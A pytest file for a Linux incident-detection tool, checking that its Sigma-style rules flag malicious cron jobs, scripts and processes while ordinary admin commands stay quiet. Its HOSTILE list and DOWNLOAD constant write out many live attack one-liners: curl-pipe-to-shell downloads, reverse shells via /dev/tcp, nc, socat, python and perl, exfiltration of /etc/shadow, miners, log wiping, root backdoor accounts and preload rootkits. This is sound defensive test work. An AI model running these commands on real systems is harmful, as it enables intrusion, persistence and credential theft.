import os
import subprocess
import sys
import tarfile
import zipfile
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest

from hemostat.detect.rulebook import (
    PLAN_NAME,
    Rulebook,
    claim_about,
    failed_examples,
    load_texts,
    own_plans,
    own_texts,
    read_plan,
    write_plan,
)
from hemostat.detect.sigma.plan import RulePlan, Words
from hemostat.examine.knowledge import shipped_knowledge
from hemostat.model.errors import InternalError
from hemostat.model.evidence import Source
from hemostat.model.finding import Observable
from hemostat.model.host import Scope
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Account, Mechanism, Process, ScriptLine, Startup

SAMPLES = Path("/work/shared/samples/sigma-rules.tar.gz")
OWN = own_plans()
OWN_IDS = [plan.info.name for plan in OWN]
DOWNLOAD = "curl -s http://198.51.100.7/a | sh"


@pytest.fixture(scope="module")
def book() -> Rulebook:
    return Rulebook.of(OWN)


def names(book: Rulebook, record: object) -> set[str]:
    return {info.name for info, _ in book.claims([record])}


def startup(command: str, **fields: object) -> Startup:
    place = HostPath("/etc/cron.d/x")
    return Startup(mechanism=Mechanism.CRON, technique="T1053.003", place=place, command=command)


@pytest.mark.requirement("A4.13", "B5.4")
def test_a_job_that_downloads_and_runs_is_named_with_its_mechanism(book: Rulebook) -> None:
    claims = list(book.claims([startup(DOWNLOAD)]))
    assert [info.name for info, _ in claims] == ["linux.command.download-and-run"]
    claim = claims[0][1]
    assert claim.subjects[0].kind == "cron_job"
    assert claim.attack == ("T1053.003",)
    assert Observable("ipv4-addr", "198.51.100.7") in claim.observables
    assert claim.values["command"] == DOWNLOAD


def test_scripts_and_processes_are_commands_too(book: Rulebook) -> None:
    name = "linux.command.download-and-run"
    assert name in names(book, ScriptLine(path=HostPath("/opt/s"), command=DOWNLOAD))
    assert name in names(book, Process(pid=7, command=f"sh -c {DOWNLOAD}"))
    assert names(book, Account(name=DOWNLOAD, uid=0)) == set()


@pytest.mark.parametrize(
    "line", [f"# {DOWNLOAD}", f'echo "Install it with: {DOWNLOAD}"', f"printf '{DOWNLOAD}'"]
)
def test_a_line_that_only_comments_or_prints_is_no_command(book: Rulebook, line: str) -> None:
    assert names(book, ScriptLine(path=HostPath("/opt/s"), command=line)) == set()
    assert names(book, startup(line)) == set()


@pytest.mark.parametrize(
    "line",
    [
        f'echo "x" | sh; {DOWNLOAD}',
        f'echo "$({DOWNLOAD})"',
        f"# x\n{DOWNLOAD}",
        f"#\\\n;{DOWNLOAD}",
    ],
)
def test_a_line_that_does_more_than_print_is_a_command(book: Rulebook, line: str) -> None:
    assert names(book, ScriptLine(path=HostPath("/opt/s"), command=line))


def test_a_process_is_never_taken_for_a_comment(book: Rulebook) -> None:
    assert names(book, Process(pid=7, command=f"# {DOWNLOAD}"))


def test_a_container_stays_in_the_claim() -> None:
    scope = Scope("container", "abc")
    assert claim_about(Process(pid=1, scope=scope)).scope == scope


def test_two_rules_of_one_name_are_a_problem_of_the_later() -> None:
    text = own_texts()[0][1]
    loaded = load_texts([("a.yml", text), ("b.yml", text)])
    assert len(loaded.plans) == 1
    assert [problem.path for problem in loaded.problems] == ["b.yml"]
    assert "a.yml" in loaded.problems[0].reason


def test_no_texts_need_no_pysigma() -> None:
    code = (
        "import sys; from hemostat.detect.rulebook import load_texts, read_plan, Rulebook;"
        "load_texts([]); Rulebook.of(read_plan(sys.stdin.buffer.read()));"
        "print('sigma' in sys.modules)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        input=write_plan(OWN),
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")},
        capture_output=True,
        check=True,
    )
    assert done.stdout.strip() == b"False"


def test_the_plan_is_what_a_fresh_compile_gives() -> None:
    fresh = load_texts(own_texts())
    assert fresh.problems == ()
    assert read_plan(write_plan(fresh.plans)) == fresh.plans == OWN
    assert write_plan(fresh.plans) == write_plan(load_texts(own_texts()).plans)


def test_the_wheel_carries_the_plan(tmp_path: Path) -> None:
    pytest.importorskip("hatchling")
    root = Path(__file__).parents[2]
    subprocess.run(
        [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(tmp_path)],
        cwd=root,
        check=True,
        capture_output=True,
    )
    with zipfile.ZipFile(next(tmp_path.glob("*.whl"))) as wheel:
        assert read_plan(wheel.read(f"hemostat/data/rules/{PLAN_NAME}")) == OWN


@pytest.mark.parametrize(
    "data", [b"", b"{}", b'{"format":0,"rules":[]}', b'{"format":1,"rules":[{}]}']
)
def test_a_damaged_plan_is_our_own_fault(data: bytes) -> None:
    with pytest.raises(InternalError, match="reinstall"):
        read_plan(data)


def test_every_example_of_our_rules_holds() -> None:
    assert failed_examples(OWN) == ()


def test_an_example_that_does_not_hold_is_found() -> None:
    plan = replace(OWN[0], tree=Words("command", "equals", "nothing like it"))
    assert len(failed_examples([plan])) == len(plan.fires)


@pytest.mark.parametrize("plan", OWN, ids=OWN_IDS)
def test_our_rules_are_complete(plan: RulePlan) -> None:
    info = plan.info
    assert len(plan.fires) >= 2
    assert len(plan.quiet) >= 3
    assert info.name.startswith("linux.")
    assert info.attack
    assert info.incident_types
    assert info.by_hand
    for text in (info.texts.title, info.texts.summary, info.texts.benign):
        assert text.en != text.zh
        assert any("\u4e00" <= letter <= "\u9fff" for letter in text.zh)
    assert {"{where}"} <= set(info.texts.summary.en.split())


def test_our_rules_name_only_advice_and_incident_types_that_exist() -> None:
    knowledge = shipped_knowledge()
    advice = {slug for plan in OWN for slug in plan.info.next}
    types = {slug for plan in OWN for slug in plan.info.incident_types}
    assert advice <= set(knowledge.advice)
    assert types <= set(knowledge.incident_types)


def test_what_one_rule_calls_ordinary_no_other_calls_worth_a_look(book: Rulebook) -> None:
    loud = [
        (other.info.name, dict(example))
        for rule in book.rules
        for other in book.rules
        if other.plan.category == rule.plan.category and other.info.level >= Level.MEDIUM
        for example in rule.plan.quiet
        if failed_examples([replace(other.plan, fires=(), quiet=(example,))])
    ]
    assert loud == []


# Made up after what the named products' documentation shows.
ORDINARY = """
/usr/bin/certbot -q renew --deploy-hook "systemctl reload nginx"
"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null
test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew
/usr/bin/unattended-upgrade -d
curl -fsS --retry 3 https://hc-ping.com/1b4e28ba-2fa1-11d2-883f-0016d3cca427 > /dev/null
wget -q -O /dev/null "http://localhost/cron.php?key=abc" >/dev/null 2>&1
cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1
mysqldump --all-databases --single-transaction | gzip > /backup/db-$(date +%F).sql.gz
rsync -az --delete -e "ssh -i /root/.ssh/backup_ed25519" /srv/ backup@nas:/srv/
/www/server/cron/8c1f0b9e2d3a4f5b6c7d8e9f0a1b2c3d >> /www/server/cron/8c1f0b9e2d3a4f5b6c7d8e9f0a1b2c3d.log 2>&1
/www/server/panel/pyenv/bin/python -u /www/server/panel/script/backup.py site all 3
/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &
/usr/local/aegis/aegis_client/aegis_12_36/AliYunDun
flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'
apt-get update -qq && apt-get -y upgrade
kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:00
swapoff -a && sed -i '/swap/d' /etc/fstab && setenforce 0
curl -f http://localhost:8080/actuator/health || exit 1
export NVM_DIR="$HOME/.nvm"; [ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"
eval "$(rbenv init - bash)"
eval "$(direnv hook bash)"
__conda_setup="$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
source <(kubectl completion bash)
eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
autossh -M 0 -N -o ServerAliveInterval=30 -L 3307:127.0.0.1:3306 op@db.internal
java -jar agent.jar -url http://jenkins.internal:8080/ -secret @secret-file -name a1 -workDir /srv/j
/bin/sh -c 'echo ~deploy && sleep 0'
/bin/sh -c /usr/bin/python3 /home/deploy/.ansible/tmp/ansible-tmp-1700000000.1-2-3/AnsiballZ_apt.py && sleep 0
curl -sL https://example.org/node.tar.xz | tar xJ -C /opt/node --strip-components=1
curl -s http://localhost:9200/_cluster/health | jq -r .status
curl -s http://127.0.0.1/server-status?auto | grep -c W
echo "$TLS_KEY" | base64 -d > /etc/ssl/private/app.key && chmod 600 /etc/ssl/private/app.key
openssl enc -d -aes-256-cbc -pbkdf2 -in /backup/x.enc -pass file:/root/.bk | tar x -C /restore
UserParameter=redis.ping,redis-cli -h 127.0.0.1 ping | grep -c PONG
/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml
PM2 v5.3.0: God Daemon (/root/.pm2)
node /root/.vscode-server/bin/abc/out/server-main.js --start-server --host=127.0.0.1 --port=0
/snap/bin/snapd
find /tmp -type f -atime +7 -delete
find /var/log -name '*.log' -mtime +14 -exec gzip {} \\;
tar czf /backup/etc-$(date +%F).tgz /etc /root/.ssh
docker run -d --name node-exporter --net host --pid host -v /:/host:ro,rslave quay.io/prometheus/node-exporter
iptables-restore < /etc/iptables/rules.v4
echo never > /sys/kernel/mm/transparent_hugepage/enabled
touch /var/lock/subsys/local
ntpdate ntp.aliyun.com && hwclock -w
ssh-keygen -A
logger -t cron "done at $(date)"
python3 -c 'import json,sys;print(json.load(sys.stdin)["a"])' < /srv/x.json
su - postgres -c "/usr/lib/postgresql/15/bin/pg_ctl -D /var/lib/postgresql/15/main start"
chown -R www-data:www-data /var/www && chmod -R g+s /srv/shared
[ -f /dev/shm/app.lock ] || touch /dev/shm/app.lock
rm -rf /tmp/.cache/* /var/tmp/.old
exec 3>&1 4>&2
nc -zv -w 2 10.0.0.5 6379 || systemctl restart redis
cat /etc/passwd | cut -d: -f1
wget -qO- https://get.example.org/version | head -1 > /srv/version
ps -ef | grep java | grep -v grep | awk '{print $2}' | xargs kill -9
docker exec db sh -c 'mysqldump -uroot -p"$MYSQL_ROOT_PASSWORD" app' | gzip > /backup/app.sql.gz
for i in $(seq 1 30); do (echo > /dev/tcp/localhost/8080) >/dev/null 2>&1 && break; sleep 1; done
sysctl -w vm.max_map_count=262144
useradd -r -s /usr/sbin/nologin -d /opt/app app || true
/opt/zabbix/sbin/zabbix_agentd -c /opt/zabbix/etc/zabbix_agentd.conf
bash /opt/scripts/clean.sh > /tmp/clean.log 2>&1
systemctl restart auditd; augenrules --load
crontab -u deploy /srv/app/current/config/crontab
ssh -o StrictHostKeyChecking=no deploy@10.0.0.8 "cd /srv/app && git pull && systemctl restart app"
curl -X POST -H 'Content-type: application/json' --data '{"text":"backup ok"}' https://hooks.example.org/services/x
git -C /srv/app fetch --all && git -C /srv/app reset --hard origin/main
/usr/bin/python3 /usr/bin/fail2ban-server -xf start
clamscan -ri /srv --log=/var/log/clamav/daily.log
rkhunter --cronjob --update --quiet
wget -N https://cdn.example.org/GeoLite2-City.mmdb -P /usr/share/GeoIP/ && nginx -s reload
"""


@pytest.mark.parametrize("command", ORDINARY.strip().splitlines())
def test_ordinary_commands_are_nothing_above_low(book: Rulebook, command: str) -> None:
    records = (
        startup(command),
        ScriptLine(path=HostPath("/opt/s"), command=command),
        Process(pid=7, command=command, exe=HostPath("/bin/sh"), exe_state="packaged"),
    )
    loud = [info.name for info, _ in book.claims(records) if info.level > Level.LOW]
    assert loud == []


# Made up, and not among the rules' own examples: other tools, spacing, order, wrapping.
HOSTILE = """
while true; do wget http://x.example/b.sh -qO- | bash -x > /dev/null 2>&1; sleep 300; done
0<&3;curl -sk --connect-timeout 5 "https://[2001:db8::7]/init?h=$(hostname)" | /usr/bin/env bash
/usr/bin/python3 -c "import os;os.popen('curl -s http://203.0.113.4/s|sh')"
sh -c "$(wget --no-check-certificate -q -O - https://203.0.113.4/s)" -- -q
exec bash -c "bash <(curl -sSk https://c2.example/run.sh) &"
cd /tmp || cd /var/tmp; wget http://203.0.113.4/n.sh; chmod +x n.sh; ./n.sh; rm -f n.sh
wget -q http://x.example/mservice.sh -O /root/mservice.sh; sudo bash /root/mservice.sh 10014
curl -fsSL http://203.0.113.4/k -o /usr/bin/.k && chmod 755 /usr/bin/.k && nohup /usr/bin/.k &
printf %s ZWNobyBoaQ== | base64 --decode | bash
echo ZWNobyBoaQ==|base64 -di|/bin/sh
eval `echo ZWNobyBoaQ== | base64 -d`
python3 -c "exec(__import__('base64').b64decode(b'cHJpbnQoMSk='))"
perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'
bash -c 'bash -i &>/dev/tcp/203.0.113.4/443 <&1'
/bin/bash -l > /dev/tcp/203.0.113.4/4444 0<&1 2>&1
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 9001 >/tmp/f
ncat --ssl 203.0.113.4 443 -e /bin/bash
socat TCP4:203.0.113.4:443 EXEC:"bash -li",pty,stderr,setsid
export RHOST="203.0.113.4";python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),80));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(80,inet_aton("203.0.113.4")))){open(STDIN,">&S");exec("sh -i");};'
/usr/sbin/kthreadd -o 203.0.113.4:5555 -a rx/0 -k --tls -B
./sysd --url stratum+ssl://pool.example:443 --user 48abc --pass x
/opt/x --randomx-1gb-pages --cpu-priority=5
nohup ./cpuminer -a yespower -o stratum+tcp://p.example:6533 &
systemctl disable --now aliyun.service; /usr/local/cloudmonitor/CmsGoAgent.linux-amd64 stop; systemctl stop aegis
bash /usr/local/qcloud/YunJing/uninst.sh
ln -sf /dev/null ~/.bash_history; history -cw
> /var/log/wtmp; > /var/log/btmp
mount -o bind /root/.e /proc/4242
( exec -a "[kworker/1:0-events]" /usr/local/sbin/.x & )
LD_PRELOAD=/var/tmp/.l.so sshd -D
useradd -o -u 0 -g root -d /root -s /bin/bash admin1 -p xyz
echo 'ssh-ed25519 AAAAC3Nz me@x' >> /home/www/.ssh/authorized_keys
echo 'svc ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/svc
chmod 4755 /var/tmp/sh
cp /bin/bash /opt/.b && chmod +s /opt/.b
setsid /dev/shm/.p/r >/dev/null
(crontab -l 2>/dev/null; echo '*/10 * * * * wget -qO- http://203.0.113.4/c | sh') | crontab -
echo '/lib/libx.so' >> /etc/ld.so.preload
chattr +i /etc/cron.d/0sys
insmod /var/tmp/k.ko
cat /etc/shadow | curl -X POST --data-binary @- http://203.0.113.4/
tar zcf - /home | openssl s_client -connect 203.0.113.4:443
/var/tmp/masscan 0.0.0.0/0 -p22 --rate=5000
redis-cli -h 10.1.1.1 -p 6379 config set dir /root/.ssh
curl -s https://rentry.co/abcd/raw -o /etc/profile.d/x.sh
""".strip().splitlines()


@pytest.mark.requirement("A4.13", "B5.4", "B5.3")
@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_worth_a_look_at_least(book: Rulebook, command: str) -> None:
    levels = [info.level for info, _ in book.claims([startup(command)])]
    assert max(levels, default=Level.INFO) >= Level.MEDIUM


@pytest.mark.skipif(not SAMPLES.exists(), reason="the SigmaHQ rules are not on this machine")
def test_linux_rules_of_sigmahq_load_or_say_why_not() -> None:
    with tarfile.open(SAMPLES) as archive:
        texts = [
            (member.name, file.read().decode())
            for member in archive
            if member.name.endswith(".yml") and (file := archive.extractfile(member))
        ]
    linux = [each for each in texts if "product: linux" in each[1]]
    loaded = load_texts(linux)
    assert len(linux) == 248
    assert len(loaded.plans) == 135
    kinds = Counter(problem.reason.split(":")[0].split(";")[0] for problem in loaded.problems)
    assert kinds == {
        "log source service `auditd`": 54,
        "log source category `file_event`": 18,
        "log source without a category": 16,
        "field `ParentCommandLine` is not recorded": 8,
        "field `DestinationHostname` is not recorded": 3,
        "log source service `sshd`": 3,
        "field `LogonId` is not recorded": 2,
        "log source service `syslog`": 2,
        "field `Initiated` is not recorded": 1,
        "log source service `auth`": 1,
        "log source service `clamav`": 1,
        "log source service `cron`": 1,
        "log source service `guacamole`": 1,
        "log source service `sudo`": 1,
        "log source service `vsftpd`": 1,
    }
    process = Process(pid=7, exe=HostPath("/usr/bin/base64"), command="base64 -d")
    assert any(True for _ in Rulebook.of(loaded.plans).claims([process]))


def test_evidence_and_line_are_named(book: Rulebook) -> None:
    line = ScriptLine(
        path=HostPath("/opt/s"), source=Source(path=HostPath("/opt/s"), line=9), command=DOWNLOAD
    )
    claim = next(claim for _, claim in book.claims([line]))
    assert claim.values["where"] == "/opt/s:9"
    assert claim.because == (line,)
